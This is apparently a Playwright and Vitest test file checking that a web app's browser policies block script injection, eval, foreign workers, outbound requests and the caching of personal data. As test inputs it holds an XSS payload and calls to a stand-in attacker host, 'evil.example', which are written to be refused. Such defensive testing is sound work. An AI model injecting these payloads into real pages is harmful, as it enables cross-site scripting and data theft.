// What the page's policies keep out in a real browser, with the app running under them.
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, expect, it } from 'vitest'
import { aBrowser, aPerson, aServer, type Person, type Server } from './stage.ts'

let browser: Browser
let server: Server
let worker: Person
beforeAll(async () => {
  ;[server, browser] = await Promise.all([aServer(), aBrowser()])
  worker = await aPerson(browser, server, 'worker1')
})
afterAll(async () => {
  await browser?.close()
  await server?.close()
})

it('text of a person becomes neither markup nor a script', async () => {
  const found = await worker.page.evaluate(async () => {
    // What a debugger evaluates may do more than the page; a task of its own may not.
    await new Promise((resolve) => setTimeout(resolve))
    const refused = (act: () => unknown): boolean => {
      try {
        act()
        return false
      } catch {
        return true
      }
    }
    const box = document.createElement('div')
    const script = document.createElement('script')
    const runs = (): boolean => 'stolen' in window
    document.body.append(box)
    const markup = refused(() => (box.innerHTML = '<img src=x onerror="window.stolen=1">'))
    const evaluated = refused(() => window.eval('window.stolen=1'))
    const compiled = refused(() => Reflect.construct(Function, ['window.stolen=1']))
    const text = refused(() => (script.textContent = 'window.stolen=1'))
    const address = refused(() => (script.src = 'https://evil.example/x.js'))
    const foreignWorker = refused(() => new Worker('data:text/javascript,1'))
    const handler = refused(() => box.setAttribute('onclick', 'window.stolen=1'))
    box.click()
    await new Promise((resolve) => setTimeout(resolve, 100))
    box.remove()
    return { markup, handler, evaluated, compiled, text, address, foreignWorker, runs: runs() }
  })
  expect(found).toEqual({
    markup: true,
    handler: true,
    evaluated: true,
    compiled: true,
    text: true,
    address: true,
    foreignWorker: true,
    runs: false,
  })
})

it('nothing is sent to another host', async () => {
  const sent = await worker.page.evaluate(() =>
    fetch('https://evil.example/', { mode: 'no-cors' }).then(
      () => true,
      () => false,
    ),
  )
  expect(sent).toBe(false)
})

it('the code scanner’s WebAssembly may run', async () => {
  const smallest = [0, 0x61, 0x73, 0x6d, 1, 0, 0, 0]
  expect(
    await worker.page.evaluate(
      (bytes) =>
        WebAssembly.compile(new Uint8Array(bytes)).then(
          () => true,
          () => false,
        ),
      smallest,
    ),
  ).toBe(true)
})

it('the browser’s caches hold files of the app and nothing of people', async () => {
  const page = await worker.restart('/records')
  await page.evaluate(async () => {
    await fetch('/api/session')
    await fetch('/api/photos/0000000000000000000000000000000000000000000000000000000000000000')
  })
  const cached = await page.evaluate(async () => {
    const paths: string[] = []
    for (const name of await caches.keys())
      for (const request of await (await caches.open(name)).keys())
        paths.push(new URL(request.url).pathname)
    return paths
  })
  expect(cached.length).toBeGreaterThan(10)
  expect(cached.filter((path) => path.startsWith('/api/'))).toEqual([])
})
